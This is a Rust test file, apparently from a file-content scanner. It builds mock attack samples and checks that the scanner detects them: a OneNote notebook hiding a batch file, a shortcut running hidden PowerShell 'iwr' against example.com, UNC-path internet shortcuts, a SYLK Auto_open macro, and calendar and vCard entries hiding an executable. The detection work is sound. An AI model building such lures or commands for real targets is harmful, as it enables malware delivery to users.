use super::*;

pub(super) fn notebook() -> Vec<u8> {
    let mut out = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
    out.extend_from_slice(&[0; 64]);
    out.extend(made::wide("Double click to view the document"));
    out.extend_from_slice(&[0, 0]);
    for file in [made::gif(), b"@echo off\r\nstart calc.exe\r\n".to_vec()] {
        out.extend_from_slice(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
        out.extend_from_slice(&u64::try_from(file.len()).unwrap().to_le_bytes());
        out.extend_from_slice(&[0; 12]);
        out.extend_from_slice(&file);
    }
    out
}

pub(super) fn lnk() -> Vec<u8> {
    let mut out = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F".to_vec();
    // A relative path, arguments, an icon; in two bytes a character.
    out.extend_from_slice(&(1_u32 << 3 | 1 << 5 | 1 << 6 | 1 << 7).to_le_bytes());
    out.resize(0x4c, 0);
    for text in
        ["..\\..\\Windows\\System32\\cmd.exe", "/c powershell -w hidden iwr https://example.com/a", "C:\\doc.ico"]
    {
        out.extend_from_slice(&u16::try_from(text.len()).unwrap().to_le_bytes());
        out.extend(made::wide(text));
    }
    out.extend_from_slice(&[0; 4]);
    out
}

/// Attacks E3: OneNote.
#[test]
fn files_in_a_notebook_come_out() {
    let looked = look_at(&notebook());
    assert_eq!(looked.traits, [Trait::Object]);
    let kinds: Vec<Kind> = looked.inner.iter().map(|i| crate::kind::of(&i.bytes)).collect();
    assert_eq!(kinds, [Kind::Image, Kind::Batch]);
    assert!(looked.text.contains("Double click to view"), "{}", looked.text);
}

#[test]
fn a_file_in_a_notebook_that_claims_everything_hides_nothing() {
    let mut lies = notebook();
    let at = crate::bytes::find(&lies, b"\xe7\x16\xe3\xbd").unwrap();
    lies[at + 16..at + 24].copy_from_slice(&u64::MAX.to_le_bytes());
    assert_eq!(crate::kind::of(&look_at(&lies).inner[1].bytes), Kind::Batch);
}

/// Attacks E3: LNK.
#[test]
fn what_a_shortcut_starts_is_its_text_and_what_it_carries_comes_out() {
    let looked = look_at(&lnk());
    assert_eq!(looked.traits, [Trait::Remote, Trait::Launches]);
    for part in ["System32\\cmd.exe", "powershell -w hidden", "doc.ico"] {
        assert!(looked.text.contains(part), "{}", looked.text);
    }
    let carried = [lnk(), made::pe()].concat();
    let looked = look_at(&carried);
    assert_eq!(
        (looked.inner[0].bytes.as_slice(), looked.traits.contains(&Trait::Object)),
        (made::pe().as_slice(), true)
    );
}

#[test]
fn shortcuts_in_text_say_where_they_lead() {
    assert_eq!(traits(b"[InternetShortcut]\r\nURL=https://example.com/\r\n"), []);
    assert_eq!(traits(b"[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\n"), [Trait::Remote, Trait::Launches]);
    assert_eq!(
        traits(b"[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\192.0.2.1\\x\\y.ico\r\n"),
        [Trait::Remote]
    );
    assert_eq!(traits(b"[Desktop Entry]\nExec=sh -c x\n"), [Trait::Launches]);
}

#[test]
fn queries_of_spreadsheets_are_told() {
    assert_eq!(traits(b"WEB\r\n1\r\nhttps://example.com/q\r\n"), [Trait::Remote]);
    assert_eq!(
        traits(b"ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;EEXEC(\"calc\")\r\n"),
        [Trait::Macro, Trait::MacroRuns]
    );
}

#[test]
fn attachments_of_calendars_and_contacts_come_out() {
    let letters = made::base64(&made::pe());
    let (first, rest) = letters.split_at(70);
    let calendar = format!(
        "BEGIN:VCALENDAR\r\nSUMMARY:Lunch\r\nATTACH;VALUE=BINARY;ENCODING=BASE64;FILENAME=\"a.exe\":{first}\r\n {rest}\r\nEND:VCALENDAR\r\n"
    );
    let looked = look_at(calendar.as_bytes());
    assert_eq!(looked.inner, [Inner { names: vec!["a.exe".into()], bytes: made::pe(), wrapping: Wrapping::Inline }]);
    assert!(looked.text.contains("SUMMARY:Lunch") && !looked.text.contains(first));
    let face =
        format!("BEGIN:VCARD\r\nFN:Anna\r\nPHOTO;ENCODING=b;TYPE=GIF:{}\r\nEND:VCARD\r\n", made::base64(&made::gif()));
    assert_eq!(look_at(face.as_bytes()).inner, []);
    let disguised = format!("BEGIN:VCARD\r\nPHOTO:data:image/gif;base64,{letters}\r\nEND:VCARD\r\n");
    assert_eq!(look_at(disguised.as_bytes()).inner[0].bytes, made::pe());
}

#[test]
fn text_is_read_in_its_charset() {
    let text = |bytes: &[u8]| look_as(Kind::PlainText, bytes).text;
    assert_eq!(text("Gr\u{fc}\u{df}e".as_bytes()), "Gr\u{fc}\u{df}e");
    assert_eq!(text(b"Gr\xfc\xdfe aus K\xf6ln"), "Gr\u{fc}\u{df}e aus K\u{f6}ln");
    assert_eq!(text(&[&b"\xff\xfe"[..], &made::wide("Gr\u{fc}\u{df}e")].concat()), "Gr\u{fc}\u{df}e");
    assert_eq!(text(&made::wide("Hello there")), "Hello there");
    assert_eq!(text(b"\xfe\xff\0H\0i\0 \0y\0o\0u"), "Hi you");
    assert_eq!(text(b""), "");
    let long = "\u{e9}".repeat(SCAN_TEXT_MAX);
    assert!(text(long.as_bytes()).len() <= SCAN_TEXT_MAX);
}
